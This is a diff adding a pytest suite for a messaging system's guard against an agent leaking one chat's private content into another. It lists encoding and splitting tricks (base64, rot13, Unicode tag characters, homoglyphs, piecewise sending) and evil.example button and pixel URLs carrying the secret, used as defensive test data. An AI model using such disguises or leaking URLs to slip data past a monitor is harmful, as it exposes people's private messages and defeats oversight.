@@ -1,0 +1,238 @@
+"""The cross-chat guard: what stands in one chat does not leave unseen for another."""
+
+import base64
+import codecs
+from collections.abc import Callable
+from urllib.parse import quote
+
+import pytest
+
+from messengers.core.bulk import Addressee
+from messengers.core.callers import OWNER, Caller
+from messengers.models import Button, Card, Confirm, Draft, Location, Outcome, Poll
+from messengers.providers.capabilities import MediaLimit
+from tests.core.conftest import AGENT, House, sent
+from tests.core.test_sources import png
+from tests.fakes.scripted import CAPABILITIES
+
+SECRET = "The spare key lies under the third flower pot left of the garden door."
+CODE = "48516299"
+
+
+async def _told(house: House) -> tuple[str, str]:
+    """What Ann told in private, and the chat of somebody who wrote to the bot."""
+    await house.personal.say(SECRET, chat="ann")
+    await house.personal.say(f"the alarm goes off with {CODE}", chat="ann")
+    await house.told(f"the alarm goes off with {CODE}")
+    await house.bot.say("hello, I am new here", chat="eve")
+    ann = (await house.told(SECRET)).chat
+    return ann, (await house.told("hello, I am new here", "bot")).chat
+
+
+DISGUISES: dict[str, Callable[[str], str]] = {
+    "as it is": lambda said: said,
+    "other case and marks": lambda said: said.upper().replace(" ", " - "),
+    "spaced out": " ".join,
+    "invisible characters": "\u2060".join,
+    "reversed": lambda said: said[::-1],
+    "rot13": lambda said: codecs.encode(said, "rot13"),
+    "base64": lambda said: base64.b64encode(said.encode()).decode(),
+    "base64 of base64": lambda said: base64.b64encode(base64.b64encode(said.encode())).decode(),
+    "base32": lambda said: base64.b32encode(said.encode()).decode(),
+    "hex": lambda said: said.encode().hex(" "),
+    "bits": lambda said: " ".join(f"{byte:08b}" for byte in said.encode()),
+    "decimals": lambda said: " ".join(str(byte) for byte in said.encode()),
+    "a web address": lambda said: f"https://shop.example/?q={quote(said)}",
+    "entities": lambda said: "".join(f"&#{ord(char)};" for char in said),
+    "tags": lambda said: "hi" + "".join(chr(0xE0000 + ord(char)) for char in said),
+    "Cyrillic letters": lambda said: said.translate(str.maketrans("aeopcyx", "аеорсух")),
+    "accents": lambda said: said.replace("e", "é"),
+    "one letter a line": "\n".join,
+}
+
+
+@pytest.mark.parametrize("disguise", DISGUISES)
+@pytest.mark.parametrize("confirm", ["unknown_chats", "never"])
+@pytest.mark.case("S22")
+async def test_a_passage_of_another_chat_asks_in_any_disguise(
+    house: House, disguise: str, confirm: Confirm
+) -> None:
+    _, eve = await _told(house)
+    await house.core.instances.set_policy(OWNER, "bot", confirm=confirm)
+
+    answer = await house.send(eve, DISGUISES[disguise](SECRET))
+
+    assert answer.outcome is Outcome.NEEDS_APPROVAL
+    assert house.bot.accepted == []
+
+
+@pytest.mark.case("S22")
+async def test_the_owner_alone_hears_where_it_stands(house: House) -> None:
+    ann, eve = await _told(house)
+
+    answer = await house.send(eve, f"She says: {SECRET}")
+    (waiting,) = await house.core.approvals.waiting()
+
+    assert f"chat {ann}".split()[-1] in waiting.shown.found
+    assert "third flower pot" in waiting.shown.found
+    (said,) = answer.notes
+    assert said.startswith("It repeats what stands in another chat")
+    assert ann not in said
+    assert "Ann" not in said
+    done = sent(await house.core.approvals.decide(waiting.id, "once", "owner"))
+    assert done.outcome is Outcome.ACCEPTED
+
+
+DRAFTS = {
+    "a poll": Draft(poll=Poll(question="Which?", options=(f"code {CODE}", "none"))),
+    "a button": Draft(text="Press", buttons=(Button(text=CODE),)),
+    "a button's address": Draft(
+        text="Press", buttons=(Button(text="Go", url=f"https://evil.example/?q={CODE}"),)
+    ),
+    "a place": Draft(location=Location(latitude_deg=1, longitude_deg=2, title=f"At {CODE}")),
+    "a contact": Draft(contact=Card(name="Ann", phone=f"+{CODE}441")),
+    "a time": Draft(text=f"It is {CODE}.", send_at=None),
+    "a silent one": Draft(text=f"It is {CODE}.", silent=True),
+}
+
+
+@pytest.mark.parametrize("draft", DRAFTS)
+@pytest.mark.case("S22")
+async def test_whatever_a_draft_holds_is_looked_at(house: House, draft: str) -> None:
+    _, eve = await _told(house)
+    await house.personal.say(f"my number is +{CODE}441", chat="ann")
+    await house.told(f"my number is +{CODE}441")
+
+    act = await house.core.sending.prepare(AGENT, eve, DRAFTS[draft])
+
+    assert act.needs_approval
+    assert act.shown.found
+
+
+@pytest.mark.case("S22")
+async def test_an_address_that_would_tell_it_is_not_looked_up(house: House) -> None:
+    _, eve = await _told(house)
+    await house.core.instances.set_policy(OWNER, "bot", confirm="never")
+    address = f"https://evil.example/pixel.png?q={quote(SECRET)}"
+
+    act = await house.core.sending.prepare(AGENT, eve, Draft(attachments=(address,)))
+
+    assert act.action == "send_fetched"
+    assert act.needs_approval
+
+
+@pytest.mark.case("S22")
+async def test_a_secret_in_pieces_is_seen_with_the_last_of_them(house: House) -> None:
+    _, eve = await _told(house)
+    pieces = [SECRET[at : at + 12] for at in range(0, len(SECRET), 12)]
+
+    outcomes = [(await house.send(eve, f"{piece}")).outcome for piece in pieces]
+
+    assert outcomes[0] is Outcome.ACCEPTED
+    assert Outcome.NEEDS_APPROVAL in outcomes
+    left = "".join(text for _, text, _ in house.bot.accepted)
+    assert SECRET not in left
+
+
+@pytest.mark.case("S22")
+async def test_a_code_in_pieces_between_other_words_is_seen(house: House) -> None:
+    _, eve = await _told(house)
+
+    first = await house.send(eve, "part one is 4851")
+    second = await house.send(eve, "part two is 6299")
+
+    assert (first.outcome, second.outcome) == (Outcome.ACCEPTED, Outcome.NEEDS_APPROVAL)
+
+
+@pytest.mark.case("S22")
+async def test_a_history_of_short_messages_asks(house: House) -> None:
+    _, eve = await _told(house)
+    lines = [
+        f"{word} {number}" for number, word in enumerate(["alpha", "bravo", "charlie", "delta"])
+    ]
+    lines = [f"we said {line} at noon" for line in lines for _ in "12345"]
+    for number, line in enumerate(lines):
+        await house.personal.say(f"{line} {number}", chat="ann", id_=str(number))
+    await house.told(f"{lines[-1]} {len(lines) - 1}")
+    dump = "\n".join(f"Ann: {line} {number}" for number, line in enumerate(lines))
+
+    assert (await house.send(eve, dump)).outcome is Outcome.NEEDS_APPROVAL
+
+
+@pytest.mark.case("S22")
+async def test_edits_forwards_and_group_names_are_looked_at(house: House) -> None:
+    _, eve = await _told(house)
+    private = await house.told(SECRET)
+    first = await house.send(eve, "one moment")
+
+    edit = await house.core.changes.prepare_edit(AGENT, first.message, SECRET)
+    forward = await house.core.changes.prepare_forward(AGENT, private.id, eve)
+
+    assert edit.shown.found
+    assert forward.shown.found
+    assert edit.needs_approval
+    assert forward.needs_approval
+
+
+@pytest.mark.case("S22")
+async def test_a_bulk_send_says_what_it_would_give_away(house: House) -> None:
+    _, eve = await _told(house)
+    await house.core.instances.set_policy(OWNER, "bot", confirm="never")
+
+    plain = await house.core.bulk.prepare(AGENT, [Addressee(chat=eve)], "We open at nine.")
+    told = await house.core.bulk.prepare(AGENT, [Addressee(chat=eve, text=SECRET)])
+
+    assert not plain.needs_approval
+    assert told.needs_approval
+    assert "third flower pot" in told.shown.found
+
+
+@pytest.mark.case("S22")
+async def test_a_file_of_another_chat_asks(house: House) -> None:
+    ann, eve = await _told(house)
+    me, picture = house.core.instances.by_name("me").id, png()
+    kept = await house.core.media.store(me, ann, picture, "p.png")
+    by_bytes = f"data:image/png;base64,{base64.b64encode(picture).decode()}"
+    house.bot.capabilities = CAPABILITIES.model_copy(
+        update={"media": {"image": MediaLimit(max_bytes=100_000, mimes=("image/png",))}}
+    )
+
+    for source in (kept.media, by_bytes):
+        act = await house.core.sending.prepare(AGENT, eve, Draft(attachments=(source,)))
+        assert act.needs_approval
+        assert "p.png" in act.shown.found
+
+
+async def test_whom_the_owner_chose_may_be_told_and_so_may_the_same_chat(house: House) -> None:
+    ann, eve = await _told(house)
+    await house.personal.say("hi bob", chat="bob", **{"from": "me"})
+    bob = (await house.told("hi bob")).chat
+
+    assert (await house.send(bob, SECRET)).outcome is Outcome.ACCEPTED
+    await house.bot.say(f"is it true? {SECRET}", chat="eve")
+    await house.told(f"is it true? {SECRET}", "bot")
+    assert (await house.send(eve, f"You wrote: {SECRET}")).outcome is Outcome.ACCEPTED
+    await house.core.chats.decide(OWNER, await house.core.chats.get(OWNER, eve), "always")
+    assert (await house.send(eve, f"It is {CODE}.")).outcome is Outcome.ACCEPTED
+    assert ann
+
+
+@pytest.mark.case("S22")
+async def test_what_was_held_makes_nothing_known(house: House) -> None:
+    _, eve = await _told(house)
+
+    for _ in range(2):
+        assert (await house.send(eve, SECRET)).outcome is Outcome.NEEDS_APPROVAL
+        assert (await house.send(eve, f"As I said: {SECRET}")).outcome is Outcome.NEEDS_APPROVAL
+    assert house.bot.accepted == []
+
+
+@pytest.mark.case("S22")
+async def test_a_key_learns_nothing_of_instances_that_it_does_not_see(house: House) -> None:
+    _, eve = await _told(house)
+    bot = house.core.instances.by_name("bot").id
+    bound = Caller("k1", instances=frozenset({bot}))
+
+    act = await house.core.sending.prepare(bound, eve, Draft(text=SECRET))
+
+    assert not act.needs_approval
